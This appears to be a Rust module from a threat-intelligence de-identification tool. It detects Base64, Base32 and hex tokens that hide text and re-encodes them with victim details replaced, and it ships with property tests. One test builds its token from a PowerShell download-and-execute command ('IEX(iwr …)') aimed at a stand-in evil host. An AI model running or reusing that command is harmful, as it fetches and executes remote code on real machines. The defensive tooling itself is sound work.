//! Tokens that hide text: Base64 (standard and URL-safe, padded or not),
//! Base32 and hex, decoded when at least 90 % of the result is printable
//! text (UTF-8, or UTF-16LE as strings dumped from Windows binaries are).

/// A token of the input that decodes to text.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct EncodedToken {
    pub(crate) start: usize,
    pub(crate) end: usize,
    pub(crate) text: String,
}

const MIN_TOKEN: usize = 8;

const fn is_token_byte(b: u8) -> bool {
    b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'=' | b'_' | b'-')
}

/// What a token byte is, as bits of [`CLASS`] (0: no token byte).
const TOKEN: u8 = 1;
/// `a`..=`z`.
const LOWER: u8 = 2;
/// `A`..=`Z`.
const UPPER: u8 = 4;
/// `0`..=`9`.
const DIGIT: u8 = 8;
/// Not a hex digit.
const NOT_HEX: u8 = 16;
/// Not a Base32 digit or padding (`A`..=`Z`, `2`..=`7`, `=`).
const NOT_BASE32: u8 = 32;
/// `/`, `&` or `-`: a token with one is also read in segments.
const SPLITS: u8 = 64;
/// `=`: padding, or a separator before the padding.
const EQUALS: u8 = 128;

/// The [`TOKEN`].. bits of each byte.
const CLASS: [u8; 256] = {
    let mut t = [0u8; 256];
    let mut i = 0;
    while i < 256 {
        let b = i as u8;
        if is_token_byte(b) {
            let mut c = TOKEN;
            if b.is_ascii_lowercase() {
                c |= LOWER;
            }
            if b.is_ascii_uppercase() {
                c |= UPPER;
            }
            if b.is_ascii_digit() {
                c |= DIGIT;
            }
            if !b.is_ascii_hexdigit() {
                c |= NOT_HEX;
            }
            if !(b.is_ascii_uppercase() || matches!(b, b'2'..=b'7' | b'=')) {
                c |= NOT_BASE32;
            }
            if matches!(b, b'/' | b'&' | b'-') {
                c |= SPLITS;
            }
            if b == b'=' {
                c |= EQUALS;
            }
            #[allow(clippy::indexing_slicing)]
            {
                t[i] = c;
            }
        }
        i += 1;
    }
    t
};

/// Finds encoded tokens of `text` (byte offsets into `text`).
///
/// One pass over the bytes finds each token and the classes of its bytes
/// ([`CLASS`]), which decide at once which encodings it may be; tokens are
/// decoded into one buffer (no allocation per token), and a token without
/// `/`, `=`, `&` or `-` is its only segment.
pub(crate) fn find(text: &str) -> Vec<EncodedToken> {
    let s = text.as_bytes();
    let class = |i: usize| s.get(i).map_or(0, |&b| CLASS.get(usize::from(b)).copied().unwrap_or(0));
    let mut out = Vec::new();
    let mut buf = Vec::new();
    let mut i = 0;
    while i < s.len() {
        while i < s.len() && class(i) == 0 {
            i += 1;
        }
        let start = i;
        let mut seen = 0u8;
        loop {
            let c = class(i);
            if c == 0 {
                break;
            }
            seen |= c;
            i += 1;
        }
        let end = i;
        // Hex bytes written apart (`{ 73 68 69 6F … }`): a run of two-digit
        // hex tokens one space apart, read as one token.
        if end - start == 2 && seen & NOT_HEX == 0 {
            let pair = |j: usize| {
                s.get(j..j + 2).is_some_and(|p| p.iter().all(u8::is_ascii_hexdigit))
                    && !s.get(j + 2).copied().is_some_and(is_token_byte)
            };
            let mut e = end;
            while s.get(e) == Some(&b' ') && pair(e + 1) {
                e += 3;
            }
            if (e - start + 1) / 3 >= MIN_SPACED_BYTES {
                if let Some(t) = spaced_hex_token(s, start, e, &mut buf) {
                    out.push(t);
                }
            }
            i = e;
            continue;
        }
        if end - start < MIN_TOKEN {
            continue;
        }
        let Some(tok) = text.get(start..end) else { continue };
        if let Some(decoded) = decode_classed(tok, seen, &mut buf) {
            out.push(EncodedToken { start, end, text: decoded });
        }
        // Paths and URLs split into their segments (an `=` only counts
        // before the padding).
        let splits =
            seen & SPLITS != 0 || (seen & EQUALS != 0 && tok.trim_end_matches('=').contains('='));
        if splits {
            for (off, part) in split_segments(tok).into_iter().skip(1) {
                if let Some(decoded) = decode_token_into(part, &mut buf) {
                    out.push(EncodedToken {
                        start: start + off,
                        end: start + off + part.len(),
                        text: decoded,
                    });
                }
            }
        }
    }
    out
}

/// The fewest bytes a run of hex bytes written apart spells.
const MIN_SPACED_BYTES: usize = 4;

/// The token of the hex bytes `s[start..end]`, written one space apart
/// (a YARA hex string `{ 73 68 69 6F 6E 6B 61 69 }`, a secret's bytes in
/// a memory tool's dump `48 00 69 00 6e 00 …`), when they spell text
/// ([`printable`]).
fn spaced_hex_token(s: &[u8], start: usize, end: usize, buf: &mut Vec<u8>) -> Option<EncodedToken> {
    buf.clear();
    let digit = |b: Option<&u8>| {
        b.and_then(|&b| char::from(b).to_digit(16)).and_then(|d| u8::try_from(d).ok())
    };
    for p in s.get(start..end)?.chunks(3) {
        buf.push(digit(p.first())? << 4 | digit(p.get(1))?);
    }
    printable(buf).map(|text| EncodedToken { start, end, text })
}

/// The token itself, and its parts between `/`, `=` (not trailing
/// padding) and `&`: a path or a query (`id=bWlu...`) is not one Base64
/// token.
fn split_segments(tok: &str) -> Vec<(usize, &str)> {
    let mut parts = vec![(0, tok)];
    let body = tok.trim_end_matches('=');
    if body.contains(['/', '=', '&', '-']) {
        let mut at = 0;
        for seg in body.split(['/', '=', '&']) {
            if seg.len() >= MIN_TOKEN && seg.len() < tok.len() {
                // Keep the padding of a last segment.
                let end = if at + seg.len() == body.len() { tok.len() } else { at + seg.len() };
                if let Some(with_pad) = tok.get(at..end) {
                    parts.push((at, with_pad));
                }
            }
            at += seg.len() + 1;
        }
    }
    parts
}

/// The text a token decodes to, with the decoded bytes in `buf` (reused).
fn decode_token_into(tok: &str, buf: &mut Vec<u8>) -> Option<String> {
    let seen =
        tok.bytes().fold(0u8, |acc, b| acc | CLASS.get(usize::from(b)).copied().unwrap_or(0));
    decode_classed(tok, seen, buf)
}

/// [`decode_token_into`] for a token whose bytes' [`CLASS`] bits, or-ed,
/// are `seen`.
fn decode_classed(tok: &str, seen: u8, buf: &mut Vec<u8>) -> Option<String> {
    let b = tok.as_bytes();
    let lower = seen & LOWER != 0;
    if b.len() % 2 == 0 && seen & NOT_HEX == 0 && seen & DIGIT != 0 {
        if let Some(t) = hex_into(tok, buf).then(|| printable(buf)).flatten() {
            return Some(t);
        }
    }
    // Other numbers are not encodings (words may be: Base64 can be all
    // letters).
    if seen & (LOWER | UPPER) == 0 {
        return None;
    }
    if !lower && seen & NOT_BASE32 == 0 {
        if let Some(t) = base32(tok).and_then(|v| printable(&v)) {
            return Some(t);
        }
    }
    base64_into(tok, buf).then(|| printable(buf)).flatten()
}

/// [`hex`] into `buf`; false where a pair is not hex.
fn hex_into(s: &str, buf: &mut Vec<u8>) -> bool {
    buf.clear();
    for p in s.as_bytes().chunks_exact(2) {
        let [h, l] = p else { return false };
        let (Some(h), Some(l)) = (char::from(*h).to_digit(16), char::from(*l).to_digit(16)) else {
            return false;
        };
        let Ok(v) = u8::try_from(h << 4 | l) else { return false };
        buf.push(v);
    }
    true
}

/// The value of each Base64 digit (standard and URL-safe), 64 for any
/// other byte.
const B64: [u8; 256] = {
    let mut t = [64u8; 256];
    let mut i = 0;
    while i < 256 {
        let c = i as u8;
        #[allow(clippy::indexing_slicing)]
        {
            t[i] = match c {
                b'A'..=b'Z' => c - b'A',
                b'a'..=b'z' => c - b'a' + 26,
                b'0'..=b'9' => c - b'0' + 52,
                b'+' | b'-' => 62,
                b'/' | b'_' => 63,
                _ => 64,
            };
        }
        i += 1;
    }
    t
};

/// [`base64`] into `buf`; false where it does not decode.
pub(crate) fn base64_into(s: &str, buf: &mut Vec<u8>) -> bool {
    buf.clear();
    let body = s.trim_end_matches('=');
    if body.len() % 4 == 1 {
        return false;
    }
    buf.reserve(body.len() / 4 * 3 + 2);
    let mut acc: u32 = 0;
    let mut bits = 0;
    for c in body.bytes() {
        let v = B64.get(usize::from(c)).copied().unwrap_or(64);
        if v == 64 {
            return false;
        }
        acc = acc << 6 | u32::from(v);
        bits += 6;
        if bits >= 8 {
            bits -= 8;
            buf.push((acc >> bits & 0xff) as u8);
        }
    }
    true
}

/// Decoded bytes as text when at least 90 % is printable.
pub(super) fn printable(bytes: &[u8]) -> Option<String> {
    let good = |t: &str| {
        let total = t.chars().count();
        let ok = t.chars().filter(|&c| c != '\0' && plausible(c)).count();
        total >= 4 && ok * 10 >= total * 9
    };
    // Most tokens that are not encodings decode to bytes that are neither
    // UTF-8 nor UTF-16LE: reject those without allocating.
    if let Ok(t) = std::str::from_utf8(bytes) {
        if good(t) {
            return Some(t.to_owned());
        }
    }
    // UTF-16LE (strings dumped from Windows binaries): check before
    // allocating.
    if bytes.len() >= 8 && bytes.len() % 2 == 0 {
        let units = bytes.chunks_exact(2).map(|p| match p {
            [a, b] => u16::from_le_bytes([*a, *b]),
            _ => 0,
        });
        let (mut total, mut ok) = (0usize, 0usize);
        // At most one character in ten may fail, and there are at most as
        // many characters as units: past that many failures the answer is
        // no, whatever follows.
        let most_fails = bytes.len() / 2 / 10;
        for r in char::decode_utf16(units) {
            let Ok(c) = r else { return None };
            total += 1;
            if plausible(c) {
                ok += 1;
            } else if total - ok > most_fails {
                return None;
            }
        }
        if total >= 4 && ok * 10 >= total * 9 {
            return utf16le(bytes).filter(|t| good(t));
        }
    }
    None
}

/// Whether `c` is a character of the text this crate protects: ASCII,
/// Latin letters and punctuation, kana, common kanji and full-width forms
/// (and NUL, which UTF-16 strings dumped from programs end with). Random
/// bytes read as UTF-8 or UTF-16 land mostly elsewhere (Hangul, Arabic,
/// rare ideographs, symbols, private use): about two in three UTF-16
/// units fail, so a word that only looks like Base64 (`Reactivate`,
/// `binary_file`) is not taken for encoded text, while Japanese and
/// English strings are. Text in other scripts is not decoded; at most one
/// character in ten may fall outside (a Cyrillic look-alike in a name).
fn plausible(c: char) -> bool {
    matches!(c,
        '\t' | '\n' | '\r' | '\0'
        | ' '..='~'
        | '\u{a0}'..='\u{24f}'
        | '\u{2000}'..='\u{206f}'
        | '\u{3000}'..='\u{30ff}'
        | '\u{4e00}'..='\u{9fff}'
        | '\u{ff00}'..='\u{ffef}')
}

fn utf16le(bytes: &[u8]) -> Option<String> {
    if bytes.len() < 8 || bytes.len() % 2 != 0 {
        return None;
    }
    let units: Vec<u16> = bytes
        .chunks_exact(2)
        .map(|p| match p {
            [a, b] => u16::from_le_bytes([*a, *b]),
            _ => 0,
        })
        .collect();
    String::from_utf16(&units).ok().map(|s| s.trim_end_matches('\0').to_owned())
}

#[cfg(test)]
fn hex(s: &str) -> Option<Vec<u8>> {
    s.as_bytes()
        .chunks_exact(2)
        .map(|p| match p {
            [h, l] => {
                let h = char::from(*h).to_digit(16)?;
                let l = char::from(*l).to_digit(16)?;
                u8::try_from(h << 4 | l).ok()
            }
            _ => None,
        })
        .collect()
}

#[cfg(test)]
fn base64(s: &str) -> Option<Vec<u8>> {
    let body = s.trim_end_matches('=');
    let mut out = Vec::with_capacity(body.len() * 3 / 4);
    let mut acc: u32 = 0;
    let mut bits = 0;
    for c in body.bytes() {
        let v = match c {
            b'A'..=b'Z' => c - b'A',
            b'a'..=b'z' => c - b'a' + 26,
            b'0'..=b'9' => c - b'0' + 52,
            b'+' | b'-' => 62,
            b'/' | b'_' => 63,
            _ => return None,
        };
        acc = acc << 6 | u32::from(v);
        bits += 6;
        if bits >= 8 {
            bits -= 8;
            out.push((acc >> bits & 0xff) as u8);
        }
    }
    if body.len() % 4 == 1 {
        return None;
    }
    Some(out)
}

fn base32(s: &str) -> Option<Vec<u8>> {
    let body = s.trim_end_matches('=');
    let mut out = Vec::with_capacity(body.len() * 5 / 8);
    let mut acc: u64 = 0;
    let mut bits = 0;
    for c in body.bytes() {
        let v = match c {
            b'A'..=b'Z' => c - b'A',
            b'2'..=b'7' => c - b'2' + 26,
            _ => return None,
        };
        acc = (acc << 5 | u64::from(v)) & 0xffff_ffff;
        bits += 5;
        if bits >= 8 {
            bits -= 8;
            out.push((acc >> bits & 0xff) as u8);
        }
    }
    Some(out)
}

/// `text` encoded as the token `tok` (which [`find`] decoded to
/// `decoded`) was: the same scheme (hex, hex bytes one space apart,
/// Base32, Base64 standard or URL-safe), the same case and padding, and
/// the same character set (UTF-8, or UTF-16LE as PowerShell's `-enc`
/// takes). What de-identification puts in place of a token whose decoded
/// text held the victim: the shareable text, encoded again, so that a
/// command line or a configuration keeps its form and the attacker's part
/// of it stays readable to whoever decodes it. `None` when the scheme
/// cannot be told again.
pub(crate) fn reencode(tok: &str, decoded: &str, text: &str) -> Option<String> {
    let mut buf = Vec::new();
    let seen =
        tok.bytes().fold(0u8, |acc, b| acc | CLASS.get(usize::from(b)).copied().unwrap_or(0));
    let upper = tok.bytes().any(|b| b.is_ascii_uppercase());
    // The scheme, tried in the order `decode_classed` tries them.
    let (scheme, bytes) = if tok.contains(' ') {
        let t = spaced_hex_token(tok.as_bytes(), 0, tok.len(), &mut buf)?;
        (Scheme::SpacedHex, (t.text == decoded).then(|| buf.clone())?)
    } else if tok.len() % 2 == 0
        && seen & NOT_HEX == 0
        && seen & DIGIT != 0
        && hex_into(tok, &mut buf)
        && printable(&buf).as_deref() == Some(decoded)
    {
        (Scheme::Hex, buf.clone())
    } else if seen & LOWER == 0
        && seen & NOT_BASE32 == 0
        && base32(tok).is_some_and(|v| printable(&v).as_deref() == Some(decoded))
    {
        (Scheme::Base32, base32(tok)?)
    } else if base64_into(tok, &mut buf) && printable(&buf).as_deref() == Some(decoded) {
        (Scheme::Base64, buf.clone())
    } else {
        return None;
    };
    let utf8 = std::str::from_utf8(&bytes).is_ok_and(|t| t == decoded);
    let raw: Vec<u8> = if utf8 {
        text.as_bytes().to_vec()
    } else {
        text.encode_utf16().flat_map(u16::to_le_bytes).collect()
    };
    let hex_digit = |v: u8| {
        let d = char::from_digit(u32::from(v), 16).unwrap_or('0');
        if upper { d.to_ascii_uppercase() } else { d }
    };
    Some(match scheme {
        Scheme::Hex => raw.iter().flat_map(|&b| [hex_digit(b >> 4), hex_digit(b & 15)]).collect(),
        Scheme::SpacedHex => raw
            .iter()
            .map(|&b| [hex_digit(b >> 4), hex_digit(b & 15)].iter().collect::<String>())
            .collect::<Vec<_>>()
            .join(" "),
        // Padded when the token was, or when its length was whole blocks
        // (it needed none): a decoder that wants padding gets it.
        Scheme::Base32 => base32_encoded(&raw, tok.ends_with('=') || tok.len() % 8 == 0),
        Scheme::Base64 => {
            let url_safe = tok.contains(['-', '_']) && !tok.contains(['+', '/']);
            let pad = tok.ends_with('=') || (!url_safe && tok.len() % 4 == 0);
            base64_encoded(&raw, url_safe, pad)
        }
    })
}

/// The schemes [`reencode`] tells apart.
#[derive(Clone, Copy)]
enum Scheme {
    Hex,
    SpacedHex,
    Base32,
    Base64,
}

/// `bytes` in Base64, standard or URL-safe, padded or not.
fn base64_encoded(bytes: &[u8], url_safe: bool, pad: bool) -> String {
    use base64::Engine as _;
    use base64::engine::general_purpose::{STANDARD, STANDARD_NO_PAD, URL_SAFE, URL_SAFE_NO_PAD};
    match (url_safe, pad) {
        (false, true) => STANDARD.encode(bytes),
        (false, false) => STANDARD_NO_PAD.encode(bytes),
        (true, true) => URL_SAFE.encode(bytes),
        (true, false) => URL_SAFE_NO_PAD.encode(bytes),
    }
}

/// `bytes` in Base32 (RFC 4648), padded or not.
fn base32_encoded(bytes: &[u8], pad: bool) -> String {
    const ALPHABET: &[u8; 32] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZ234567";
    let mut out = String::with_capacity(bytes.len().div_ceil(5) * 8);
    for chunk in bytes.chunks(5) {
        let n =
            chunk.iter().fold(0u64, |acc, &b| acc << 8 | u64::from(b)) << (8 * (5 - chunk.len()));
        let digits = (chunk.len() * 8).div_ceil(5);
        for k in 0..8 {
            if k < digits {
                let v = (n >> (35 - 5 * k)) & 31;
                out.push(char::from(ALPHABET.get(v as usize).copied().unwrap_or(b'A')));
            } else if pad {
                out.push('=');
            }
        }
    }
    out
}

/// The token search before tokens were decoded into one buffer, kept as
/// the reference the property test holds [`find`] to.
#[cfg(test)]
mod reference {
    use super::{
        EncodedToken, MIN_TOKEN, base32, base64, hex, is_token_byte, plausible, split_segments,
        utf16le,
    };

    /// The token search before tokens were decoded into one buffer.
    /// Finds encoded tokens of `text` (byte offsets into `text`).
    pub(super) fn find(text: &str) -> Vec<EncodedToken> {
        let s = text.as_bytes();
        let mut out = Vec::new();
        let mut i = 0;
        while i < s.len() {
            if !s.get(i).copied().is_some_and(is_token_byte) {
                i += 1;
                continue;
            }
            let start = i;
            while s.get(i).copied().is_some_and(is_token_byte) {
                i += 1;
            }
            // A token glued to other letters (inside a word) is not a token.
            let Some(tok) = text.get(start..i) else { continue };
            if tok.len() < MIN_TOKEN {
                continue;
            }
            // Paths and URLs split into their segments.
            for (off, part) in split_segments(tok) {
                if let Some(decoded) = old_decode_token(part) {
                    out.push(EncodedToken {
                        start: start + off,
                        end: start + off + part.len(),
                        text: decoded,
                    });
                }
            }
        }
        // Hex bytes written apart, found from the spaces.
        let pair = |i: usize| {
            s.get(i..i + 2).is_some_and(|p| p.iter().all(u8::is_ascii_hexdigit))
                && !s.get(i + 2).copied().is_some_and(is_token_byte)
                && !i.checked_sub(1).and_then(|b| s.get(b)).copied().is_some_and(is_token_byte)
        };
        let mut from = 0;
        while let Some(sp) = s.get(from..).and_then(|r| r.iter().position(|&b| b == b' ')) {
            let sp = from + sp;
            from = sp + 1;
            if sp < 2 || !pair(sp - 2) || !pair(sp + 1) {
                continue;
            }
            let start = sp - 2;
            let mut end = sp + 3;
            while s.get(end) == Some(&b' ') && pair(end + 1) {
                end += 3;
            }
            from = end;
            if (end - start + 1) / 3 >= super::MIN_SPACED_BYTES {
                let bytes: Option<Vec<u8>> = text
                    .get(start..end)
                    .unwrap_or_default()
                    .split(' ')
                    .map(|p| u8::from_str_radix(p, 16).ok())
                    .collect();
                if let Some(t) = bytes.as_deref().and_then(super::printable) {
                    out.push(EncodedToken { start, end, text: t });
                }
            }
        }
        out.sort_by_key(|t| t.start);
        out
    }

    /// [`super::printable`] before it stopped at the failure that decides:
    /// every UTF-16 unit counted.
    pub(super) fn printable(bytes: &[u8]) -> Option<String> {
        let good = |t: &str| {
            let total = t.chars().count();
            let ok = t.chars().filter(|&c| c != '\0' && plausible(c)).count();
            total >= 4 && ok * 10 >= total * 9
        };
        if let Ok(t) = std::str::from_utf8(bytes) {
            if good(t) {
                return Some(t.to_owned());
            }
        }
        if bytes.len() >= 8 && bytes.len() % 2 == 0 {
            let units = bytes.chunks_exact(2).map(|p| match p {
                [a, b] => u16::from_le_bytes([*a, *b]),
                _ => 0,
            });
            let (mut total, mut ok) = (0usize, 0usize);
            for r in char::decode_utf16(units) {
                let Ok(c) = r else { return None };
                total += 1;
                if plausible(c) {
                    ok += 1;
                }
            }
            if total >= 4 && ok * 10 >= total * 9 {
                return utf16le(bytes).filter(|t| good(t));
            }
        }
        None
    }

    fn old_decode_token(tok: &str) -> Option<String> {
        let b = tok.as_bytes();
        let lower = b.iter().any(u8::is_ascii_lowercase);
        let digit = b.iter().any(u8::is_ascii_digit);
        if b.len() % 2 == 0 && b.iter().all(u8::is_ascii_hexdigit) && digit {
            if let Some(t) = hex(tok).and_then(|v| printable(&v)) {
                return Some(t);
            }
        }
        // Other numbers are not encodings (words may be: Base64 can be all
        // letters).
        if !b.iter().any(u8::is_ascii_alphabetic) {
            return None;
        }
        if !lower && b.iter().all(|c| matches!(c, b'A'..=b'Z' | b'2'..=b'7' | b'=')) {
            if let Some(t) = base32(tok).and_then(|v| printable(&v)) {
                return Some(t);
            }
        }
        base64(tok).and_then(|v| printable(&v))
    }
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used)]
    use super::*;
    use proptest::prelude::*;

    #[test]
    fn reencoding_gives_back_each_token_and_encodes_new_text_alike() {
        let utf16: Vec<u8> = "IEX(iwr https://hjsk.evil.example/a)"
            .encode_utf16()
            .flat_map(u16::to_le_bytes)
            .collect();
        let tokens = [
            base64_encoded(&utf16, false, true),
            base64_encoded(b"minatogawa-seiki.co.jp/login?x=1", true, false),
            base32_encoded(b"minatogawa seiki", true),
            "6d696e61746f67617761".to_owned(),
            "6D 69 6E 61 74 6F 67 61".to_owned(),
        ];
        for tok in &tokens {
            let found = find(tok);
            let t = found.iter().find(|t| (t.start, t.end) == (0, tok.len())).unwrap();
            assert_eq!(reencode(tok, &t.text, &t.text).as_deref(), Some(tok.as_str()), "{tok}");
            // New text in the same scheme decodes back to itself.
            let new = reencode(tok, &t.text, "<victim-org> at hxxps://evil[.]example/a").unwrap();
            let back = find(&new);
            assert!(
                back.iter().any(|b| b.text == "<victim-org> at hxxps://evil[.]example/a"),
                "{tok} -> {new}"
            );
        }
    }

    /// Pieces of tokens: words, Base64, hex, Base32, paths and queries.
    const PIECES: &[&str] = &[
        "5rmK5bed57K+5qmf",
        "bWluYXRvZ2F3YQ==",
        "bWlu",
        "==",
        "=",
        "/",
        "&",
        "-",
        "_",
        "+",
        "id=",
        "https://x.example/p/",
        "configuration",
        "Reactivate",
        "4d4e534b2d46533031",
        "ab",
        "0",
        "MFRGGZDFMZTWQ2LK",
        "NBSWY3DP",
        "AAAA",
        "Zg",
        "dGVzdA",
        "6Z2S5qOu",
        "湊川",
        " ",
        "\n",
        ".",
        ":",
        "\"",
        "eyJhbGciOiJIUzI1NiJ9",
        "TQBOAFMASwA=",
        "VABlAHMAdAA=",
        // Hex bytes written apart: `mina`, UTF-16 `MN`, machine code.
        "6D 69 6E 61",
        " 74 6F ",
        "4d 00 4e 00",
        "4D 5A 90 00",
        "00",
        "6e",
    ];

    proptest! {
        #![proptest_config(ProptestConfig { cases: 4096, ..ProptestConfig::default() })]

        /// Tokens built from the pieces are found and decoded as before.
        #[test]
        fn find_is_the_reference_anywhere(
            parts in prop::collection::vec(prop::sample::select(PIECES), 0..16),
        ) {
            let text = parts.concat();
            prop_assert_eq!(find(&text), reference::find(&text));
        }
    }

    /// UTF-16 units around the 90 % line: plausible ones, and ones that
    /// are not (Hangul, private use, a lone surrogate).
    const UNITS: &[u16] =
        &[0x41, 0x20, 0x3042, 0x6e4a, 0xff21, 0x0, 0xac00, 0xe000, 0x0500, 0xd800, 0xdc00];

    proptest! {
        #![proptest_config(ProptestConfig { cases: 8192, ..ProptestConfig::default() })]

        /// Decoded bytes are judged as when every unit was counted.
        #[test]
        fn printable_is_the_reference(
            units in prop::collection::vec(
                prop_oneof![
                    8 => prop::sample::select(&UNITS[..6]),
                    1 => prop::sample::select(&UNITS[6..]),
                ],
                0..48,
            ),
            odd in prop::option::of(any::<u8>()),
            raw in prop::collection::vec(any::<u8>(), 0..24),
        ) {
            let mut bytes: Vec<u8> = units.iter().flat_map(|u| u.to_le_bytes()).collect();
            bytes.extend(odd);
            prop_assert_eq!(printable(&bytes), reference::printable(&bytes));
            prop_assert_eq!(printable(&raw), reference::printable(&raw));
        }
    }

    #[test]
    fn hex_bytes_written_apart_are_one_token() {
        let yara = "$cfg = { 73 68 69 6F 6E 6B 61 69 2E 6C 6F 63 61 6C } condition";
        let found = find(yara);
        assert_eq!(found.len(), 1, "{found:?}");
        assert_eq!(found.first().map(|t| t.text.as_str()), Some("shionkai.local"));
        assert_eq!(
            found.first().map(|t| &yara[t.start..t.end]),
            Some("73 68 69 6F 6E 6B 61 69 2E 6C 6F 63 61 6C")
        );
        // A secret's UTF-16 bytes in a memory tool's dump.
        let dump = "DefaultPassword x 48 00 69 00 6e 00 30 00 64 00 65 00 40 00 42 00";
        assert_eq!(find(dump).first().map(|t| t.text.as_str()), Some("Hin0de@B"));
        // Machine code, prose with hex-looking words, three pairs: none.
        for none in [
            "4d 5a 41 52 55 48 89 e5 48 81 ec 20 00 00 00 48  MZARUH..H.. ...H",
            "we be ad de fa ce it",
            "ab cd ef",
            "x73 68 69 6F",
        ] {
            assert!(find(none).is_empty(), "{none}");
        }
    }

    fn b64(bytes: &[u8]) -> String {
        const A: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
        let mut out = String::new();
        for c in bytes.chunks(3) {
            let n = c.iter().enumerate().fold(0u32, |n, (i, b)| n | u32::from(*b) << (16 - 8 * i));
            for i in 0..=c.len() {
                out.push(char::from(A[(n >> (18 - 6 * i) & 63) as usize]));
            }
        }
        out
    }

    fn utf16(s: &str) -> Vec<u8> {
        s.encode_utf16().flat_map(u16::to_le_bytes).collect()
    }

    #[test]
    fn utf16le_strings_decode_in_japanese_and_english() {
        for s in ["湊川精機", "ミナトガワ", "MNSK\\t.sato", "東京都港区芝浦"] {
            let tok = b64(&utf16(s));
            let found = find(&format!("blob {tok} end"));
            assert_eq!(found.len(), 1, "{s}: {found:?}");
            assert_eq!(found[0].text, s);
        }
    }

    #[test]
    fn long_words_are_not_taken_for_utf16_text() {
        // Each of these decodes as Base64 to bytes that read as UTF-16LE
        // without a surrogate error; none is text.
        let prose = "Reactivate binary_file Persistence Exfiltration Kimsuky \
                     cybereason Linikatz configuration administrators \
                     Authentication Screenshots credentialed environment";
        let found = find(prose);
        assert!(found.is_empty(), "{found:?}");
    }
}
